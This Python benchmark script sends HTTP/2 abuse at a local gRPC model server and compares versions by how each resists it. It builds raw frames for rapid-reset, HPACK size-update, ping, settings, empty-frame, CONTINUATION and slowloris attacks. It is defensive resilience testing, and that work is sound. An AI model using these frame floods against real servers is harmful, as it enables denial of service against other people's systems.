"""Abuse of the HTTP/2 gRPC port, with a second client probing: the table of
docs/reliability.md.

``python -m benchmarks.h2abuse --variant before=DIR --variant after=src [--cases a,b]
[--slowloris-wait 65]``

Each variant is a directory holding the ``pyserving`` package (as for
``benchmarks.compare``); for each, one server (``python -m pyserving`` with
``half_plus_two``) is started, every case runs against its gRPC port in turn, and the server
is stopped. During each case a probe client (grpcio, its own channel) sends a Predict every
0.2 s with a 2 s deadline; the case's row gives what the abuse did (how the server ended the
abuser's connection, what it cost) and the probe's failures and slowest call. Cases:

- ``size-updates``: ten header blocks of 1 MiB of HPACK table size updates, each one
  HEADERS frame (the audit's); ``size-updates-16k``: the same in 16 KiB frames (HEADERS and
  CONTINUATION);
- ``header-cache``: 4 connections, each sending 64 distinct header blocks (1 MiB of size
  updates before a small request, or the largest accepted request blocks), kept open; the
  server's RSS growth;
- ``metadata-100k``: one call with 100 KB of metadata among 200 concurrent Predicts on one
  grpcio channel: the other calls' failures;
- ``rapid-reset``: HEADERS + DATA (a Predict) + RST_STREAM repeated (20 000 times or until
  the server closes): how many of the Predicts were answered (ran), how the connection ended;
- ``ping-flood``, ``settings-flood``, ``empty-data-flood``, ``empty-continuation-flood``:
  100 000 frames;
- ``slowloris``: 100 streams whose request body stops after 3 bytes, on one connection; how
  many are answered within ``--slowloris-wait`` seconds (the request timeout is 60 s).

Prints a markdown table and writes ``<out>/h2abuse-<stamp>.json``.
"""

from __future__ import annotations

import argparse
import datetime
import json
import os
import pathlib
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterable
from typing import Any

import grpc
import hpack
import numpy as np
from tensorflow.core.framework import tensor_pb2, tensor_shape_pb2, types_pb2
from tensorflow_serving.apis import predict_pb2, prediction_service_pb2_grpc

from benchmarks import models, procstat, servers

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0x0,
    0x1,
    0x3,
    0x4,
    0x6,
    0x7,
    0x8,
    0x9,
)
END_STREAM, END_HEADERS = 0x1, 0x4
ERROR_NAMES = {
    0x0: "NO_ERROR",
    0x1: "PROTOCOL_ERROR",
    0x6: "FRAME_SIZE_ERROR",
    0x9: "COMPRESSION_ERROR",
    0xB: "ENHANCE_YOUR_CALM",
}
PREDICT = "/tensorflow.serving.PredictionService/Predict"
#: The probe's pace and deadline.
PROBE_INTERVAL = 0.2
PROBE_DEADLINE = 2.0
CASES = (
    "size-updates",
    "size-updates-16k",
    "header-cache",
    "metadata-100k",
    "rapid-reset",
    "ping-flood",
    "settings-flood",
    "empty-data-flood",
    "empty-continuation-flood",
    "slowloris",
)


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return (
        len(payload).to_bytes(3, "big")
        + bytes((kind, flags))
        + (stream_id & 0x7FFFFFFF).to_bytes(4, "big")
        + payload
    )


def predict_request(value: float = 2.0) -> predict_pb2.PredictRequest:
    request = predict_pb2.PredictRequest()
    request.model_spec.name = "half_plus_two"
    array = np.asarray([[value]], dtype=np.float32)
    tensor = tensor_pb2.TensorProto(dtype=types_pb2.DT_FLOAT, tensor_content=array.tobytes())
    tensor.tensor_shape.CopyFrom(
        tensor_shape_pb2.TensorShapeProto(
            dim=[tensor_shape_pb2.TensorShapeProto.Dim(size=d) for d in array.shape]
        )
    )
    request.inputs["x"].CopyFrom(tensor)
    return request


def grpc_message(request: Any) -> bytes:
    data = request.SerializeToString()
    return b"\x00" + struct.pack(">I", len(data)) + data


class Probe:
    """A Predict every :data:`PROBE_INTERVAL` s on its own channel, until stopped."""

    def __init__(self, port: int) -> None:
        self.channel = grpc.insecure_channel(f"127.0.0.1:{port}")
        self.stub = prediction_service_pb2_grpc.PredictionServiceStub(self.channel)
        self.request = predict_request()
        self.calls = 0
        self.failures: list[str] = []
        self.slowest = 0.0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        while not self._stop.is_set():
            start = time.monotonic()
            try:
                self.stub.Predict(self.request, timeout=PROBE_DEADLINE)
            except grpc.RpcError as exc:
                self.failures.append(str(exc.code()))  # type: ignore[attr-defined]
            self.calls += 1
            took = time.monotonic() - start
            self.slowest = max(self.slowest, took)
            self._stop.wait(max(0.0, PROBE_INTERVAL - took))

    def __enter__(self) -> Probe:
        self.stub.Predict(self.request, timeout=30)  # connected and warm
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        time.sleep(1.0)  # the probe keeps going a little after the abuse
        self._stop.set()
        self._thread.join(30)
        self.channel.close()

    def summary(self) -> dict[str, Any]:
        return {
            "calls": self.calls,
            "failures": len(self.failures),
            "failure_codes": sorted(set(self.failures)),
            "slowest_s": round(self.slowest, 3),
        }


class Raw:
    """A raw HTTP/2 client connection; a thread reads (and counts) what the server sends."""

    def __init__(self, port: int, timeout: float | None = 30) -> None:
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=timeout)
        self.encoder = hpack.Encoder()
        self.frames: dict[int, int] = {}
        self.answers = 0  # DATA frames carrying answers
        self.goaway: int | None = None
        self.closed = threading.Event()
        self.opened = time.monotonic()
        self.closed_after: float | None = None
        window = struct.pack(">HI", 0x4, (1 << 31) - 1)
        self.sock.sendall(
            PREFACE
            + frame(SETTINGS, 0, 0, window)
            + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 1 - 65535))
        )
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()

    def _read(self) -> None:
        buffer = b""
        try:
            while True:
                chunk = self.sock.recv(1 << 20)
                if not chunk:
                    break
                buffer += chunk
                while len(buffer) >= 9 and len(buffer) >= 9 + int.from_bytes(buffer[:3], "big"):
                    length = int.from_bytes(buffer[:3], "big")
                    kind = buffer[3]
                    payload = buffer[9 : 9 + length]
                    buffer = buffer[9 + length :]
                    self.frames[kind] = self.frames.get(kind, 0) + 1
                    if kind == DATA and payload:
                        self.answers += 1
                    elif kind == GOAWAY and self.goaway is None:
                        self.goaway = struct.unpack(">II", payload[:8])[1]
        except OSError:
            pass
        self.closed_after = time.monotonic() - self.opened
        self.closed.set()

    def block(self, headers: Iterable[tuple[str, str]] = ()) -> bytes:
        return self.encoder.encode(
            [
                (":method", "POST"),
                (":scheme", "http"),
                (":path", PREDICT),
                (":authority", "localhost"),
                ("content-type", "application/grpc"),
                ("te", "trailers"),
                *headers,
            ]
        )

    def send(self, data: bytes) -> bool:
        """False once the server has closed the connection."""
        if self.closed.is_set():
            return False
        try:
            self.sock.sendall(data)
        except OSError:
            return False
        return True

    def send_all(self, chunks: Iterable[bytes]) -> int:
        """Send chunks until they run out or the connection closes; how many were sent."""
        sent = 0
        for chunk in chunks:
            if not self.send(chunk):
                break
            sent += 1
        return sent

    def ping_roundtrip(self, timeout: float) -> bool:
        """Whether a PING sent now is answered (or the connection closes) in time."""
        pings = self.frames.get(PING, 0)
        if not self.send(frame(PING, 0, 0, b"roundtr!")):
            return True
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline and not self.closed.is_set():
            if self.frames.get(PING, 0) > pings:
                return True
            time.sleep(0.01)
        return self.closed.is_set()

    def close(self) -> None:
        self.sock.close()
        self.closed.wait(5)

    def outcome(self) -> str:
        if self.goaway is not None:
            return f"GOAWAY {ERROR_NAMES.get(self.goaway, hex(self.goaway))}"
        return "closed" if self.closed.is_set() else "kept open"


def _ended(raw: Raw) -> str:
    after = f" after {raw.closed_after:.2f} s" if raw.closed_after is not None else ""
    return raw.outcome() + after


# -- cases --------------------------------------------------------------------------------


def size_updates(port: int, pid: int, frame_size: int) -> dict[str, Any]:
    raw = Raw(port)
    start = time.monotonic()
    block = b"\x20" * (1 << 20)
    chunks = []
    for i in range(10):
        stream_id = 2 * i + 1
        if frame_size >= len(block):
            chunks.append(frame(HEADERS, END_HEADERS | END_STREAM, stream_id, block))
            continue
        pieces = [block[j : j + frame_size] for j in range(0, len(block), frame_size)]
        chunks.append(frame(HEADERS, END_STREAM, stream_id, pieces[0]))
        for k, piece in enumerate(pieces[1:], start=2):
            chunks.append(
                frame(CONTINUATION, END_HEADERS if k == len(pieces) else 0, stream_id, piece)
            )
    raw.send_all(chunks)
    raw.ping_roundtrip(60)
    took = time.monotonic() - start
    raw.close()
    return {"outcome": _ended(raw), "server_busy_s": round(took, 2)}


def header_cache(port: int, pid: int) -> dict[str, Any]:
    """64 distinct blocks on each of 4 connections, kept open while RSS is read."""
    before = procstat.memory_bytes(pid)["VmRSS"]
    conns = [Raw(port) for _ in range(4)]
    outcomes = []
    for n, raw in enumerate(conns):
        chunks = []
        for i in range(64):
            stream_id = 2 * i + 1
            # 1 MiB of size updates, then a small, distinct request (never indexed).
            request = hpack.Encoder().encode(
                [
                    hpack.NeverIndexedHeaderTuple(k, v)
                    for k, v in [
                        (":method", "POST"),
                        (":scheme", "http"),
                        (":path", PREDICT),
                        ("content-type", "application/grpc"),
                        ("x-n", f"{n}-{i}"),
                    ]
                ]
            )
            updates = b"\x20" * ((1 << 20) - len(request))  # one frame of 1 MiB in all
            chunks.append(frame(HEADERS, END_HEADERS | END_STREAM, stream_id, updates + request))
        raw.send_all(chunks)
        raw.ping_roundtrip(60)
        outcomes.append(raw.outcome())
    grown_1mib = procstat.memory_bytes(pid)["VmRSS"] - before
    for raw in conns:
        raw.close()
    # Within the rules: 64 distinct blocks of ~60 KiB each (HEADERS + CONTINUATION).
    before = procstat.memory_bytes(pid)["VmRSS"]
    conns = [Raw(port) for _ in range(4)]
    for n, raw in enumerate(conns):
        chunks = []
        for i in range(64):
            stream_id = 2 * i + 1
            fields = [
                (":method", "POST"),
                (":scheme", "http"),
                (":path", PREDICT),
                ("content-type", "application/grpc"),
                ("x-n", f"{n}-{i}"),
                *[(f"x-pad-{j}", "p" * 900) for j in range(60)],
            ]
            block = hpack.Encoder().encode(
                [hpack.NeverIndexedHeaderTuple(k, v) for k, v in fields], huffman=False
            )
            pieces = [block[j : j + 16384] for j in range(0, len(block), 16384)]
            chunks.append(frame(HEADERS, END_STREAM, stream_id, pieces[0]))
            for k, piece in enumerate(pieces[1:], start=2):
                last = END_HEADERS if k == len(pieces) else 0
                chunks.append(frame(CONTINUATION, last, stream_id, piece))
        raw.send_all(chunks)
        raw.ping_roundtrip(60)
    grown_60k = procstat.memory_bytes(pid)["VmRSS"] - before
    for raw in conns:
        raw.close()
    return {
        "outcome": ", ".join(sorted(set(outcomes))),
        "rss_growth_mb_1mib_blocks": round(grown_1mib / 1e6, 1),
        "rss_growth_mb_60kib_blocks": round(grown_60k / 1e6, 1),
    }


def metadata_100k(port: int, pid: int) -> dict[str, Any]:
    channel = grpc.insecure_channel(f"127.0.0.1:{port}")
    stub = prediction_service_pb2_grpc.PredictionServiceStub(channel)
    request = predict_request()
    stub.Predict(request, timeout=30)
    futures = [stub.Predict.future(request, timeout=30) for _ in range(100)]
    big = stub.Predict.future(request, timeout=30, metadata=[("x-big", "m" * 100_000)])
    futures += [stub.Predict.future(request, timeout=30) for _ in range(100)]
    failures: dict[str, int] = {}
    for future in futures:
        try:
            future.result()
        except grpc.RpcError as exc:
            code = str(exc.code())  # type: ignore[attr-defined]
            failures[code] = failures.get(code, 0) + 1
    try:
        big.result()
        big_status = "OK"
    except grpc.RpcError as exc:
        big_status = str(exc.code())  # type: ignore[attr-defined]
    channel.close()
    return {
        "outcome": f"the 100 KB call: {big_status}",
        "other_calls_failed": sum(failures.values()),
        "other_failures": failures,
    }


def rapid_reset(port: int, pid: int) -> dict[str, Any]:
    raw = Raw(port)
    message = grpc_message(predict_request())
    first = raw.block()
    again = raw.block()  # index references to what the first one added to the table

    def batches() -> Iterable[bytes]:
        stream_id = 1
        for _ in range(200):
            batch = []
            for _ in range(100):
                head = first if stream_id == 1 else again
                batch += [
                    frame(HEADERS, END_HEADERS, stream_id, head),
                    frame(DATA, END_STREAM, stream_id, message),
                    frame(RST_STREAM, 0, stream_id, struct.pack(">I", 0x8)),
                ]
                stream_id += 2
            yield b"".join(batch)

    start = time.monotonic()
    sent = raw.send_all(batches()) * 100
    raw.ping_roundtrip(60)
    took = time.monotonic() - start
    raw.close()
    return {
        "outcome": _ended(raw),
        "calls_sent": sent,
        "calls_answered": raw.answers,
        "seconds": round(took, 2),
    }


def flood(port: int, pid: int, make: Callable[[Raw], list[bytes]]) -> dict[str, Any]:
    raw = Raw(port)
    start = time.monotonic()
    frames = make(raw)
    chunks = [b"".join(frames[i : i + 1000]) for i in range(0, len(frames), 1000)]
    sent = raw.send_all(chunks)
    raw.ping_roundtrip(60)
    took = time.monotonic() - start
    raw.close()
    return {
        "outcome": _ended(raw),
        "frames_sent": min(len(frames), sent * 1000),
        "seconds": round(took, 2),
    }


def slowloris(port: int, pid: int, wait: float) -> dict[str, Any]:
    raw = Raw(port, timeout=None)  # the answers come after a minute of silence
    message = grpc_message(predict_request())
    chunks = []
    for i in range(100):
        stream_id = 2 * i + 1
        chunks.append(frame(HEADERS, END_HEADERS, stream_id, raw.block()))
        chunks.append(frame(DATA, 0, stream_id, message[:3]))
    raw.send_all(chunks)
    deadline = time.monotonic() + wait
    while time.monotonic() < deadline and raw.frames.get(HEADERS, 0) < 100:
        time.sleep(0.5)
    answered = raw.frames.get(HEADERS, 0)
    raw.close()
    return {
        "outcome": f"{answered} of 100 stalled calls answered within {wait:g} s",
        "answered": answered,
    }


def run_case(name: str, port: int, pid: int, args: argparse.Namespace) -> dict[str, Any]:
    if name == "size-updates":
        return size_updates(port, pid, 1 << 20)
    if name == "size-updates-16k":
        return size_updates(port, pid, 16384)
    if name == "header-cache":
        return header_cache(port, pid)
    if name == "metadata-100k":
        return metadata_100k(port, pid)
    if name == "rapid-reset":
        return rapid_reset(port, pid)
    if name == "slowloris":
        return slowloris(port, pid, args.slowloris_wait)
    n = 100_000
    makers: dict[str, Callable[[Raw], list[bytes]]] = {
        "ping-flood": lambda raw: [frame(PING, 0, 0, b"\x00" * 8)] * n,
        "settings-flood": lambda raw: [frame(SETTINGS, 0, 0, b"")] * n,
        "empty-data-flood": lambda raw: (
            [frame(HEADERS, END_HEADERS, 1, raw.block())] + [frame(DATA, 0, 1, b"")] * n
        ),
        "empty-continuation-flood": lambda raw: (
            [frame(HEADERS, 0, 1, b"")] + [frame(CONTINUATION, 0, 1, b"")] * n
        ),
    }
    return flood(port, pid, makers[name])


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m benchmarks.h2abuse", description=__doc__)
    parser.add_argument("--variant", action="append", required=True, help="NAME=DIR")
    parser.add_argument("--cases", default=",".join(CASES))
    parser.add_argument("--slowloris-wait", type=float, default=65.0)
    parser.add_argument("--out", type=pathlib.Path, default=servers.ROOT / "benchmarks/results")
    parser.add_argument("--models-dir", type=pathlib.Path, default=None)
    args = parser.parse_args(argv)
    cases = [c for c in args.cases.split(",") if c]
    unknown = set(cases) - set(CASES)
    if unknown:
        parser.error(f"unknown cases: {sorted(unknown)}")
    out: pathlib.Path = args.out.resolve()
    stamp = datetime.datetime.now().strftime("%Y%m%d-%H%M%S")
    work = out / f"h2abuse-{stamp}"
    work.mkdir(parents=True)
    workload = models.half_plus_two((args.models_dir or out / "models").resolve())
    results: dict[str, dict[str, Any]] = {}
    for item in args.variant:
        variant, _, directory = item.partition("=")
        path = pathlib.Path(directory).resolve()
        grpc_port, rest_port = servers.free_port(), servers.free_port()
        server = servers.ServerProcess(
            label=variant,
            command=servers.pyserving_command(
                workload.name, workload.base_path, grpc_port, rest_port, ()
            ),
            log_path=work / f"server-{variant}.log",
            rest_port=rest_port,
            grpc_port=grpc_port,
            env={"PYTHONPATH": os.pathsep.join([str(path), str(servers.ROOT)])},
        )
        with servers.running(server, workload.name):
            for case in cases:
                print(f"{variant}: {case}", file=sys.stderr, flush=True)
                with Probe(grpc_port) as probe:
                    row = run_case(case, grpc_port, server.pid, args)
                row["probe"] = probe.summary()
                results.setdefault(case, {})[variant] = row
                print(f"  {json.dumps(row)}", file=sys.stderr, flush=True)
    doc = {"command": ["python", "-m", "benchmarks.h2abuse", *sys.argv[1:]], "results": results}
    path = out / f"h2abuse-{stamp}.json"
    path.write_text(json.dumps(doc, indent=1))
    names = [item.partition("=")[0] for item in args.variant]
    header = ["case", *names, *(f"probe failures ({n})" for n in names)]
    print("| " + " | ".join(header) + " |")
    print("|" + "---|" * len(header))
    for case, rows in results.items():
        cells = [case]
        for n in names:
            row = rows[n]
            extra = {k: v for k, v in row.items() if k not in ("outcome", "probe")}
            cells.append(f"{row['outcome']}; {json.dumps(extra)}")
        for n in names:
            probe = rows[n]["probe"]
            cells.append(
                f"{probe['failures']} of {probe['calls']} (slowest {probe['slowest_s']} s)"
            )
        print("| " + " | ".join(cells) + " |")
    print(f"\nresults: {path}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
